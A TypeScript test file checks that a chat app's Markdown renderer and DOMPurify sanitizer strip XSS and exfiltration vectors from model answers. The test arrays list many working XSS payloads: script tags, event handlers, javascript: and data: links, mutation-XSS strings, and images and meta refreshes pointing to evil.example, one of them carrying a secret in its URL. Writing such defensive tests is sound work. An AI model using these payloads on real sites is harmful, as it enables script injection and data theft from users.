// @vitest-environment jsdom
/**
 * The rendering pipeline for model output (marked -> DOMPurify -> decorate), against the XSS and
 * exfiltration vectors an answer could carry. Ids [RD*] are in docs/SPEC.md.
 */
import { afterEach, describe, expect, it, vi } from 'vitest';
import { codeForButton, copyCodeLabel } from './decorate';
import { highlight } from './languages';
import { LiveMarkdown } from './live-markdown.svelte';
import { isClosedFence, maxHighlightedChars, renderMarkdown, type Highlight } from './render';
import { sanitizeToString } from './sanitize';

/** Inserts rendered blocks into a container of the test document, as the component does. */
function mount(source: string, highlighter: Highlight | null = null): HTMLElement {
	const container = document.createElement('div');
	container.innerHTML = renderMarkdown(source, highlighter).blocks.join('');
	return container;
}

function parse(html: string): HTMLElement {
	const container = document.createElement('div');
	container.innerHTML = html;
	return container;
}

const forbiddenElements =
	'script, style, iframe, frame, object, embed, form, input, button, textarea, select, ' +
	'svg, math, img, image, video, audio, source, picture, link, meta, base, template, noscript';

/** Everything that could run code, load something, or dress text up as the app. */
function dangers(root: HTMLElement, allowOwnButtons = true): string[] {
	const found: string[] = [];
	for (const element of root.querySelectorAll('*')) {
		const tag = element.tagName.toLowerCase();
		const ownButton = allowOwnButtons && tag === 'button' && element.className === 'md-copy-code';
		if (element.matches(forbiddenElements) && !ownButton) found.push(`<${tag}>`);
		for (const attribute of element.attributes) {
			const name = attribute.name.toLowerCase();
			if (name.startsWith('on')) found.push(`${tag}[${name}]`);
			if (['style', 'id', 'name', 'src', 'srcset', 'action', 'formaction'].includes(name)) {
				found.push(`${tag}[${name}]`);
			}
			if (name === 'href' && !/^(https?:|mailto:)/i.test(attribute.value)) {
				found.push(`${tag}[href=${attribute.value}]`);
			}
		}
	}
	return found;
}

// Vectors written as an answer would carry them: raw HTML in Markdown.
const htmlVectors = [
	'<script>window.__xss = 1</script>',
	'<img src=x onerror="window.__xss = 1">',
	'<svg onload="window.__xss = 1"></svg>',
	'<svg><script>window.__xss = 1</script></svg>',
	'<iframe src="javascript:window.__xss = 1"></iframe>',
	'<iframe srcdoc="<script>parent.__xss = 1</script>"></iframe>',
	'<math><mtext><table><mglyph><style><img src=x onerror="window.__xss = 1">',
	'<form action="javascript:window.__xss = 1"><button>Go</button></form>',
	'<style>body { display: none }</style>',
	'<object data="javascript:window.__xss = 1"></object>',
	'<embed src="javascript:window.__xss = 1">',
	'<a href="javascript:window.__xss = 1">click</a>',
	'<div style="position:fixed;inset:0" onclick="window.__xss = 1">cover</div>',
	'<details open ontoggle="window.__xss = 1">x</details>',
	'<input autofocus onfocus="window.__xss = 1">',
	'<video><source onerror="window.__xss = 1"></video>',
	'<body onload="window.__xss = 1">',
	'<base href="http://evil.example/">',
	'<meta http-equiv="refresh" content="0;url=http://evil.example/">',
	'<p>inline <b onmouseover="window.__xss = 1">bold</b> html</p>'
];

// Vectors given straight to the sanitizer, as if the parser had let them through.
const sanitizerVectors = [
	...htmlVectors,
	'<svg><p><style><a title="</style><img src=x onerror=alert(1)>">',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
	'<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
	'<math href="javascript:alert(1)">click</math>',
	'<a href="jav&#x09;ascript:alert(1)">tab</a>',
	'<a href="&#106;avascript:alert(1)">entity</a>',
	'<a href=" javascript:alert(1)">space</a>',
	'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
	'<a href="vbscript:msgbox(1)">vb</a>',
	'<img src="http://evil.example/track.png">',
	'<img srcset="http://evil.example/a.png 1x">',
	'<table background="http://evil.example/bg.png"><tr><td>x</td></tr></table>',
	'<p id="conversation" name="x" class="dialog md-image">clobber</p>',
	'<template><script>alert(1)</script></template>',
	'<link rel="stylesheet" href="http://evil.example/x.css">'
];

describe('raw HTML in an answer', () => {
	for (const vector of htmlVectors) {
		it(`[RD1] is shown as text, never as markup: ${vector}`, () => {
			const root = mount(`Before\n\n${vector}\n\nand inline ${vector} too`);
			expect(dangers(root)).toEqual([]);
			// The characters the model wrote are all there, as text.
			expect(root.textContent).toContain(vector);
		});
	}

	it('[RD1] a block of raw HTML keeps its line breaks as text', () => {
		const root = mount('<div>\n<script>x()</script>\n</div>');
		expect(root.querySelector('.md-raw')?.textContent).toBe('<div>\n<script>x()</script>\n</div>');
		expect(dangers(root)).toEqual([]);
	});
});

describe('the sanitizer', () => {
	for (const vector of sanitizerVectors) {
		it(`[RD2] keeps nothing active of: ${vector}`, () => {
			expect(dangers(parse(sanitizeToString(vector)), false)).toEqual([]);
		});
	}

	it('[RD2] keeps the structure Markdown produces', () => {
		const html =
			'<h3>T</h3><p><strong>b</strong> <em>i</em> <del>d</del> <code>c</code></p>' +
			'<ul><li>a</li></ul><ol start="3"><li>b</li></ol><blockquote><p>q</p></blockquote>' +
			'<table><thead><tr><th align="left">h</th></tr></thead><tbody><tr><td>c</td></tr></tbody></table>' +
			'<pre><code class="hljs language-ts"><span class="hljs-keyword">const</span></code></pre><hr>';
		expect(sanitizeToString(html)).toBe(html);
	});

	it('[RD2] keeps only the classes the renderer and highlighter write', () => {
		const out = parse(
			sanitizeToString(
				'<p class="dialog md-raw">a</p><span class="hljs-title function_ shell">b</span>'
			)
		);
		expect(out.querySelector('p')?.className).toBe('md-raw');
		expect(out.querySelector('span')?.className).toBe('hljs-title function_');
	});
});

describe('links', () => {
	const refused = [
		'[x](javascript:window.__xss=1)',
		'[x](JaVaScRiPt:window.__xss=1)',
		'[x](jav&#x09;ascript:window.__xss=1)',
		'[x](&#106;avascript:window.__xss=1)',
		'[x]( javascript:window.__xss=1 )',
		'[x](vbscript:msgbox(1))',
		'[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
		'[x](file:///etc/passwd)',
		'[x](/api/docs/delete)',
		'[x][ref]\n\n[ref]: javascript:window.__xss=1',
		'<javascript:window.__xss=1>'
	];
	for (const source of refused) {
		it(`[RD3] a link to anything but http(s) or mailto keeps its text only: ${JSON.stringify(source)}`, () => {
			const root = mount(source);
			expect(dangers(root)).toEqual([]);
			expect(root.querySelector('a[href]')).toBeNull();
		});
	}

	const kept = {
		'[x](http://evil.example/)': 'http://evil.example/',
		'[x](https://example.com/a?b=1&c=2)': 'https://example.com/a?b=1&c=2',
		'see https://example.com/path for more': 'https://example.com/path',
		'<https://example.com/auto>': 'https://example.com/auto',
		'[mail](mailto:someone@example.com)': 'mailto:someone@example.com',
		'[x][ref]\n\n[ref]: https://example.com/ref': 'https://example.com/ref'
	};
	for (const [source, href] of Object.entries(kept)) {
		it(`[RD3] a web or mail link opens in a new tab with noopener: ${JSON.stringify(source)}`, () => {
			const links = [...mount(source).querySelectorAll('a')];
			expect(links).toHaveLength(1);
			expect(links[0]?.getAttribute('href')).toBe(href);
			expect(links[0]?.getAttribute('target')).toBe('_blank');
			expect(links[0]?.getAttribute('rel')).toBe('noopener noreferrer');
		});
	}

	it('[RD3] raw links given to the sanitizer get target and rel too', () => {
		const link = parse(sanitizeToString('<a href="https://example.com" target="_self">x</a>'));
		expect(link.querySelector('a')?.getAttribute('target')).toBe('_blank');
		expect(link.querySelector('a')?.getAttribute('rel')).toBe('noopener noreferrer');
	});
});

describe('images', () => {
	const images = {
		'![x](http://evil.example/track.png)': 'Image: x (not loaded)',
		'![secret: 42](https://evil.example/?q=secret)': 'Image: secret: 42 (not loaded)',
		'![](http://evil.example/blank.png)': 'Image: no description (not loaded)',
		'![logo][img]\n\n[img]: http://evil.example/logo.png': 'Image: logo (not loaded)',
		'[![badge](http://evil.example/b.svg)](https://example.com)': 'Image: badge (not loaded)',
		'![x](data:image/png;base64,iVBORw0KGgo=)': 'Image: x (not loaded)'
	};
	for (const [source, text] of Object.entries(images)) {
		it(`[RD4] an image is never loaded, only named: ${JSON.stringify(source)}`, () => {
			const root = mount(source);
			expect(root.querySelector('img, image, picture, source, [src], [srcset]')).toBeNull();
			expect(root.querySelector('.md-image')?.textContent).toBe(text);
			expect(root.innerHTML).not.toContain('evil.example/track');
		});
	}
});

describe('code blocks', () => {
	const ts = '```ts\nconst answer: number = 42;\n```';

	it('[RD5] a closed fence is highlighted once the highlighter is there', () => {
		const root = mount(ts, highlight);
		expect(root.querySelector('pre code.hljs .hljs-keyword')?.textContent).toBe('const');
		expect(root.querySelector('pre code')?.textContent).toBe('const answer: number = 42;');
	});

	it('[RD5] without the highlighter, or with a language it lacks, code is plain and complete', () => {
		for (const root of [mount(ts), mount('```klingon\nqapla();\n```', highlight)]) {
			expect(root.querySelector('pre code span')).toBeNull();
			expect(root.querySelector('pre code')?.textContent).toMatch(/answer|qapla/);
		}
	});

	it('[RD5] a fence still open (an answer streaming) is not highlighted until it closes', () => {
		const calls = vi.fn(highlight);
		const open = mount('```ts\nconst a = 1;\nconst b', calls);
		expect(open.querySelector('pre code span')).toBeNull();
		expect(calls).not.toHaveBeenCalled();
		const closed = mount('```ts\nconst a = 1;\nconst b = 2;\n```', calls);
		expect(closed.querySelector('.hljs-keyword')).not.toBeNull();
	});

	it('[RD5] a very large block stays plain', () => {
		const big = '```js\n' + 'let x = 1;\n'.repeat(maxHighlightedChars / 10) + '```';
		const calls = vi.fn(highlight);
		expect(mount(big, calls).querySelector('pre code span')).toBeNull();
		expect(calls).not.toHaveBeenCalled();
	});

	it('[RD5] highlighter output goes through the sanitizer too', () => {
		const hostile: Highlight = () => '<img src=x onerror="window.__xss=1"><b>ok</b>';
		const root = mount('```ts\nx\n```', hostile);
		expect(dangers(root)).toEqual([]);
	});

	it('[RD5] the highlighter is asked for only when a message has code', () => {
		expect(renderMarkdown('# Title\n\nJust *words* and `inline code`.').hasCode).toBe(false);
		expect(renderMarkdown(ts).hasCode).toBe(true);
		expect(renderMarkdown('- step\n\n  ```sh\n  npm i\n  ```').hasCode).toBe(true);
		expect(renderMarkdown('    indented code').hasCode).toBe(true);
	});

	it('[RD5] tells closed fences from open ones', () => {
		const fence = (raw: string) => isClosedFence({ raw });
		expect(fence('```\na\n```')).toBe(true);
		expect(fence('```\na\n```\n\n')).toBe(true);
		expect(fence('~~~py\na\n~~~')).toBe(true);
		expect(fence('````\n```\n````')).toBe(true);
		expect(fence('````\na\n```')).toBe(false);
		expect(fence('```\na\n~~~')).toBe(false);
		expect(fence('```ts')).toBe(false);
		expect(fence('```ts\nconst')).toBe(false);
		expect(isClosedFence({ raw: '    code', codeBlockStyle: 'indented' })).toBe(true);
	});
});

describe('copy buttons', () => {
	it('[RD6] every code block, nested ones too, has a "Copy code" button that copies it exactly', () => {
		const code = 'if (a < b && c > "d") {\n\treturn \'👍🏽 שלום e\u0301\';\n}';
		const source = `Intro\n\n\`\`\`js\n${code}\n\`\`\`\n\n1. step\n\n   \`\`\`sh\n   npm i\n   \`\`\``;
		for (const withHighlight of [null, highlight]) {
			const root = mount(source, withHighlight);
			const buttons = [...root.querySelectorAll('button')];
			expect(buttons.map((b) => b.textContent)).toEqual([copyCodeLabel, copyCodeLabel]);
			expect(buttons.every((b) => b.type === 'button')).toBe(true);
			expect(buttons.map((b) => codeForButton(b))).toEqual([code, 'npm i']);
			expect(root.querySelector('.md-code-language')?.textContent).toBe('js');
		}
	});
});

describe('layout', () => {
	it('[RD8] headings sit below the page own h1 and h2', () => {
		const root = mount('# One\n\n## Two\n\n### Three\n\n#### Four\n\n###### Six');
		expect([...root.querySelectorAll('h1, h2, h3, h4, h5, h6')].map((h) => h.tagName)).toEqual([
			'H3',
			'H4',
			'H5',
			'H6',
			'H6'
		]);
	});

	it('[RD8] a table scrolls inside its own box; a task list has no form control', () => {
		const root = mount('| a | b |\n| - | - |\n| 1 | 2 |\n\n- [x] done\n- [ ] todo');
		expect(root.querySelector('.md-table > table')).not.toBeNull();
		expect(root.querySelector('input')).toBeNull();
		expect(root.textContent).toContain('☑ done');
		expect(root.textContent).toContain('☐ todo');
	});

	it('[RD8] text in any script survives: emoji, combining marks, right-to-left', () => {
		const text = 'Family 👨‍👩‍👧‍👦, flag 🇫🇷, é (e + U+0301), עברית, العربية';
		expect(mount(`**${text}**`).querySelector('strong')?.textContent).toBe(text);
	});
});

describe('streaming', () => {
	afterEach(() => {
		vi.useRealTimers();
		vi.restoreAllMocks();
	});

	it('[RD7] blocks already rendered are not rendered or highlighted again as the answer grows', () => {
		const calls = vi.fn(highlight);
		let source = 'Intro paragraph.\n\n```ts\nconst a = 1;\n```\n\n';
		const first = renderMarkdown(source, calls).blocks;
		expect(calls).toHaveBeenCalledTimes(1);
		for (const word of 'and then the answer goes on and on'.split(' ')) {
			source += word + ' ';
			const next = renderMarkdown(source, calls);
			expect(next.fresh).toBe(1);
			expect(next.blocks.slice(0, 2)).toEqual(first.slice(0, 2));
		}
		expect(calls).toHaveBeenCalledTimes(1);
	});

	it('[RD11] before the renderer has loaded, a message has no HTML blocks (the view shows its text)', () => {
		const view = new LiveMarkdown();
		view.show('**not yet**', null, null);
		expect(view.blocks).toEqual([]);
		view.show('**not yet**', null, renderMarkdown);
		expect(view.blocks.join('')).toContain('<strong>not yet</strong>');
		view.destroy();
	});

	it('[RD7] renders of a growing answer are spaced by four times their cost', () => {
		vi.useFakeTimers();
		// The clock as the view reads it: the first render runs from 1000 to 1010 (10 ms), the
		// next update comes at 1015, the delayed render runs at 1050.
		const clock = [1000, 1010, 1015, 1050, 1051];
		vi.spyOn(performance, 'now').mockImplementation(() => clock.shift() ?? 2000);
		const view = new LiveMarkdown();
		view.show('first', null, renderMarkdown);
		expect(view.blocks.join('')).toContain('first');
		view.show('second', null, renderMarkdown);
		view.show('third', null, renderMarkdown);
		expect(view.blocks.join('')).toContain('first');
		vi.advanceTimersByTime(34);
		expect(view.blocks.join('')).toContain('first');
		vi.advanceTimersByTime(1);
		expect(view.blocks.join('')).toContain('third');
		expect(clock).toEqual([]);
		view.destroy();
	});

	it('[RD7] whatever the input, rendering never throws and never emits anything active', () => {
		const alphabet = ['<', '>', '[', ']', '(', ')', '!', '*', '_', '`', '~', '#', '|', '-', '\n'];
		const words = ['a', 'script', 'img', 'javascript:', 'on', '=', '"', "'", '&#', 'http://e/'];
		let seed = 7;
		const random = (n: number) => {
			seed = (seed * 1103515245 + 12345) % 2 ** 31;
			return seed % n;
		};
		for (let i = 0; i < 300; i++) {
			let source = '';
			for (let j = random(80); j > 0; j--) {
				source += random(2) ? alphabet[random(alphabet.length)] : words[random(words.length)];
			}
			expect(dangers(mount(source, highlight)), source).toEqual([]);
		}
	});
});
